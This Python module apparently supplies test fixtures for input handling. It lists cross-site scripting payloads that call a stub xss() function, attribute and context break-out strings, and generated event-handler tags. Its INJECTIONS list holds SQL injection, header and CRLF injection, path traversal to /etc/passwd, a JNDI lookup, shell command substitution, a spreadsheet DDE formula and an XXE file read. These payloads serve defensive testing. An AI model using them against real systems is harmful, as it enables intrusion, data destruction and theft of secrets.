"""Texts that would be program if a page took them for one."""

from __future__ import annotations

from itertools import product

# Each calls xss(), by a way of its own: as an element, an attribute, an address, a style.
_ELEMENTS = (
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script/x>xss()</script>",
    "<script>\nxss()\n</script>",
    "<<script>xss();//<</script>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'>",
    '<img src="x" onerror="xss()">',
    "<img/src=x/onerror=xss()>",
    "<image src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg/onload=xss()//",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<math><mi xlink:href=javascript:xss()>a</mi></math>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<marquee onstart=xss()>a</marquee>",
    "<a href=javascript:xss()>a</a>",
    "<form><button formaction=javascript:xss()>a",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<base href=//example.org/>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<style>@import '//example.org/x.css'</style>",
    "<template><script>xss()</script></template>",
)
_BREAK_OUTS = (
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '" onmouseover="xss()" autofocus onfocus="xss()',
    "' onfocus='xss()' autofocus '",
    "` onfocus=xss() autofocus `",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "</option></select><img src=x onerror=xss()>",
    "</dialog><img src=x onerror=xss()>",
    "--><script>xss()</script>",
    "]]><script>xss()</script>",
    "javascript:xss()",
    " javascript:xss()",
    "java\tscript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "{{ 7|add:'7' }}{% debug %}",
    "${xss()}",
    "#{xss()}",
    "<%= xss() %>",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cscript\\x3exss()\\x3c/script\\x3e",
    "';xss();//",
    '";xss();//',
    "\u2028xss()\u2029",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\ufeff<script>xss()</script>",
)
SHORT: tuple[str, ...] = (*_ELEMENTS[:12], *_BREAK_OUTS[:16], *_ELEMENTS[18:30])
_TAGS = ("b", "p", "div", "video", "svg", "li", "h1", "td", "summary", "dialog", "label", "output")
_EVENTS = ("onclick", "onpointerenter", "onanimationstart", "onfocusin", "onauxclick")
ALL: tuple[str, ...] = (
    *_ELEMENTS,
    *_BREAK_OUTS,
    *(f"<{tag} {event}=xss() tabindex=0>" for tag, event in product(_TAGS, _EVENTS)),
)


def filled(payloads: tuple[str, ...], start: int, length: int) -> str:
    """Return as many payloads as fit into a text, beginning at a place of the list, going round."""
    count = count_of(payloads, start, length)
    return "".join(payloads[(start + number) % len(payloads)] for number in range(count))


def count_of(payloads: tuple[str, ...], start: int, length: int) -> int:
    """Return how many payloads fit into a text, beginning at a place of the list, going round."""
    room = length
    for number in range(len(payloads)):
        room -= len(payloads[(start + number) % len(payloads)])
        if room < 0:
            return number
    return len(payloads)


# What the other languages in a text would be: of the database, of headers, of logs, of paths.
INJECTIONS = (
    "'; DROP TABLE clients_client; --",
    "' OR '1'='1",
    "1) UNION SELECT password FROM foundation_user --",
    "$$; SELECT pg_sleep(9); $$",
    "\\'; SELECT 1; --",
    "%' OR name LIKE '%",
    "100%_\\",
    "%s %(name)s {0} {name!r}",
    "a\r\nSet-Cookie: taken=1",
    "a\nBcc: everybody@example.org",
    "a\r\n\r\n<script>xss()</script>",
    "a\nWARNING forged line",
    "a\x1b[31mred",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd%00.pdf",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}",
    "${jndi:ldap://example.org/a}",
    "$(touch x)",
    "`id`",
    "=cmd|' /C calc'!A0",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\u202egpj.exe",
)
